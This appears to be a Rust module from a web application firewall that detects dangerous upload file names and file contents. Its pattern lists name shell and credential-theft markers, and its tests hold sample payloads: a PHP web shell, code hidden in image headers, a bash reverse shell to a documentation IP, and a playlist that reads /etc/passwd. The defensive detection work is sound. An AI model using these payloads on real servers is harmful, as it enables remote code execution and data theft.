//! Uploaded files: names that a server might run, and contents that act where files are converted
//! or run, whatever type was declared.
//!
//! The first bytes of a file tell what it is: source code that is shown in a text file is honest,
//! source code that a file begins with, or that hides in an image, is not.

use super::{Hit, Hits, Text};
use crate::waf::Part;
use crate::waf::rules::code as rules;
use crate::waf::scan::{Needles, at, find, from, skip_space, span, word};

/// Without one of these nothing here can fire.
pub(super) const TRIGGERS: &[&str] = &[
    ".",
    "<",
    "#!",
    "#extm3u",
    "push graphic-context",
    "%pipe%",
    "__halt_compiler",
];

/// Last endings that servers or systems run. Of what a shell reads (`.sh`, `.bat`, `.ps1`) no server runs one by its
/// name: those are judged by what they do.
const RUNS: &[&[u8]] = &[
    b"pht",
    b"phps",
    b"asmx",
    b"asa",
    b"cer",
    b"war",
    b"pl",
    b"exe",
    b"dll",
    b"vbs",
    b"scr",
    b"msi",
    b"hta",
    b"htaccess",
    b"htpasswd",
    b"cfm",
    b"stm",
    b"svgz",
    b"user.ini",
    b"asax",
    b"ascx",
    b"soap",
    b"rem",
    b"xamlx",
    b"vbhtm",
    b"vbhtml",
    b"cshtml",
    b"jsw",
    b"jsv",
    b"wss",
    b"cfml",
    b"cfc",
    b"dbm",
    b"yaws",
    b"pgif",
    b"phtm",
    b"php2",
    b"hphp",
    b"ctp",
    b"lnk",
    b"scf",
    b"cpl",
    b"chm",
    b"reg",
    b"swf",
];
/// Endings that some servers run wherever they stand in the name: Apache runs `x.php.jpg`.
const RUNS_WITHIN: &[&[u8]] = &[
    b"php", b"php3", b"php4", b"php5", b"php6", b"php7", b"php8", b"phtml", b"phar", b"asp",
    b"aspx", b"ashx", b"jsp", b"jspx", b"jspf", b"shtml", b"cgi",
];
/// Files that configure the server of the folder that they lie in.
const CONFIGURES: &[&[u8]] = &[
    b".htaccess",
    b".user.ini",
    b"web.config",
    b"php.ini",
    b".bashrc",
    b".bash_profile",
    b".profile",
    b"authorized_keys",
];

/// Headers that carry the name of an upload.
const NAME_HEADERS: &[&str] = &[
    "x-filename",
    "x_filename",
    "x-file-name",
    "x.filename",
    "content-disposition",
];

/// What a file begins with that a server would run.
const STARTS: &[&[u8]] = &[
    b"<?php",
    b"<?=",
    b"<? ",
    b"<%",
    b"<jsp:",
    b"<cfexecute",
    b"<script language=\"php",
    b"<script runat",
    b"#!/usr/bin/perl",
    b"#!/usr/bin/php",
    b"#!/usr/bin/env perl",
    b"#!/usr/bin/env php",
    b"push graphic-context",
];
/// How files begin that hold no text: pictures, sound, archives, documents.
const BINARY: &[&[u8]] = &[
    b"gif8",
    b"\x89png",
    b"\xff\xd8\xff",
    b"bm",
    b"riff",
    b"at&tform",
    b"pk\x03\x04",
    b"%pdf",
    b"id3",
    b"\0\0\0",
    b"\0\0\x01\0",
    b"ii*\0",
    b"mm\0*",
];
/// Code that has no place in such files.
static HIDDEN: Needles<'static> = Needles::new(&[
    b"<?php",
    b"<%@",
    b"<%eval",
    b"<%execute",
    b"<script",
    b"__halt_compiler",
    b"eval(base64_decode",
    b"<jsp:",
    b"<!entity",
    b"\" . qx{",
]);
/// The same, when text follows: these bytes alone occur by chance.
const HIDDEN_SHORT: &[&[u8]] = &[b"<?=", b"<? ", b"<%"];
/// Names the rules that a file breaks.
pub(super) fn detect(text: &Text<'_>, hits: &mut Hits) {
    let is_name_header = text.part == Part::HeaderValue && NAME_HEADERS.contains(&text.name);
    if text.part == Part::FileName || is_name_header {
        name(text.lower, hits);
    } else if text.part == Part::File {
        content(text.lower, hits);
    }
}

/// Windows drops what follows `;`, `:` and spaces, so only the word after a dot counts.
fn name(text: &[u8], hits: &mut Hits) {
    let base = text
        .rsplit(|byte| matches!(byte, b'/' | b'\\' | b'"' | b'='))
        .find(|part| !part.is_empty())
        .unwrap_or_default();
    // `a.php/.jpg`: a program asked with a path behind it.
    let is_folder = text
        .windows(5)
        .any(|window| window == b".php/" || window == b".asp/");
    let mut endings = base.split(|byte| *byte == b'.').skip(1).peekable();
    let mut runs = CONFIGURES.iter().any(|name| base.starts_with(name));
    while let Some(ending) = endings.next() {
        let ending_word = word(ending, 0);
        let is_last = endings.peek().is_none() || ending_word.len() < ending.len();
        runs |= RUNS_WITHIN.contains(&ending_word) || is_last && RUNS.contains(&ending_word);
    }
    if runs || is_folder {
        hits.push(Hit::new(&rules::UPLOAD_NAME, 0, text.len()));
    }
}

fn content(text: &[u8], hits: &mut Hits) {
    let body = text.strip_prefix(b"\xef\xbb\xbf").unwrap_or(text);
    let body = from(body, skip_space(body, 0));
    let found = if let Some(start) = STARTS.iter().find(|start| body.starts_with(start)) {
        Some(*start)
    } else if BINARY.iter().any(|magic| body.starts_with(magic)) {
        hidden(body)
    } else {
        acting(body)
    };
    if let Some(literal) = found {
        let start = find(text, literal, 0).unwrap_or(0);
        hits.push(Hit::new(&rules::UPLOAD_CODE, start, start + literal.len()));
    }
}

/// Code in a file that should hold none.
fn hidden(body: &[u8]) -> Option<&'static [u8]> {
    // Forms in PDF hold scripts of their own.
    let is_document = body.starts_with(b"%pdf");
    let fits = |literal: &&[u8]| !(is_document && **literal == *b"<script");
    // An entry of an archive that lands above the folder it is unpacked into.
    let entry = span(body, 30, 30 + 3);
    if body.starts_with(b"pk\x03\x04") && matches!(entry, b"../" | b"..\\") {
        return Some(b"../");
    }
    if let Some((_, literal)) = HIDDEN.find(body, 0).filter(|(_, literal)| fits(literal)) {
        return Some(literal);
    }
    let is_text = |byte: &u8| (b' '..0x7f).contains(byte);
    HIDDEN_SHORT.iter().copied().find(|literal| {
        find(body, literal, 0).is_some_and(|start| {
            let rest = span(body, start, start + 12);
            rest.len() > 8 && rest.iter().all(is_text) && rest.contains(&b'(')
                || rest.contains(&b'`') && rest.iter().all(is_text)
        })
    })
}

/// What a script does in attacks.
const SCRIPT_SIGNS: &[&[u8]] = &[
    b"os.system(\"id",
    b"os.system('id",
    b"pty.spawn",
    b"/dev/tcp",
    b"|sh",
    b"| sh",
    b"|bash",
    b"| bash",
    b"\nid\n",
    b"whoami",
    b"$query_string",
    b"/etc/passwd",
    b"/etc/shadow",
    b"nc -",
    b"base64 -d",
    b"content-type:",
    b"mkfifo",
];

/// Text that makes a converter read or run what it names: play lists, `PostScript`; and a server's
/// handlers. Markup that acts is read as markup elsewhere.
fn acting(body: &[u8]) -> Option<&'static [u8]> {
    let signs: &[&[u8]] = match at(body, 0) {
        b'#' if body.starts_with(b"#extm3u") => &[b"file:///", b"concat:"],
        // No server runs a shell's script by its name; what attacks do in one, they do.
        b'#' if body.starts_with(b"#!") && body.ends_with(b"\nid") => &[b"\nid"],
        b'#' if body.starts_with(b"#!") => SCRIPT_SIGNS,
        b'%' if body.starts_with(b"%!ps") => &[b"%pipe%"],
        b'<' => &[b"scriptprocessor=", b"sethandler application/x-httpd"],
        b'a' if body.starts_with(b"addtype application/x-httpd") => &[b"addtype"],
        _ => &[],
    };
    signs
        .iter()
        .copied()
        .find(|sign| find(body, sign, 0).is_some())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_found(part: Part, text: &[u8]) -> bool {
        let mut hits = Hits::default();
        let text = Text {
            lower: text,
            part,
            name: "f",
        };
        detect(&text, &mut hits);
        !hits.is_empty()
    }

    #[test]
    fn tells_names_that_run() {
        for attack in [
            "shell.php",
            "a.php.jpg",
            "a.php;.jpg",
            "a.asp::$data",
            "x.pl",
            ".htaccess",
            "web.config",
            "../a/web.config",
            "x.phtml ",
        ] {
            assert!(is_found(Part::FileName, attack.as_bytes()), "{attack}");
        }
        for honest in [
            "civil.war.2024.mp4",
            "faktur.allegro.pl.pdf",
            "photo.final.jpg",
            "o'brien (1).docx",
            "rp$100.xlsx",
            "notes.shape.txt",
            "backup.sh",
        ] {
            assert!(!is_found(Part::FileName, honest.as_bytes()), "{honest}");
        }
    }

    #[test]
    fn tells_files_that_act() {
        for attack in [
            &b"<?php system($_get['c']);"[..],
            b"\xef\xbb\xbf <?= `id` ?>",
            b"gif89a<?php eval(1);",
            b"\xff\xd8\xff\xe0\0\x10jfif<?=`$_get[0]`?>",
            b"<%@ page language=\"java\"%>",
            b"#!/bin/sh\nid",
            b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            b"#!/bin/sh\necho content-type: text/html",
            b"push graphic-context\nfill 'url(https://x)'",
            b"#extm3u\nconcat:http://x|file:///etc/passwd",
        ] {
            assert!(is_found(Part::File, attack), "{attack:?}");
        }
    }

    #[test]
    fn leaves_files_that_show_code_alone() {
        for honest in [
            &b"# read me\n\n```php\n<?php echo 1; ?>\n```"[..],
            b"use `<script src=\"x\">` in your page",
            b"#!/usr/bin/env python3\nprint(1)",
            b"#!/bin/bash\nset -e\ntar czf /tmp/b.tgz \"$home\"\n",
            b"<html><head><script src=\"a.js\"></script>",
            b"<!doctype svg [<!entity ns \"http://ns.adobe.com/x/\">]><svg><text>on a=b</text></svg>",
            b"\x89png\r\n\x1a\n\0\0<%\x01",
            b"{% block %}<script></script>",
        ] {
            assert!(!is_found(Part::File, honest), "{honest:?}");
        }
    }
}
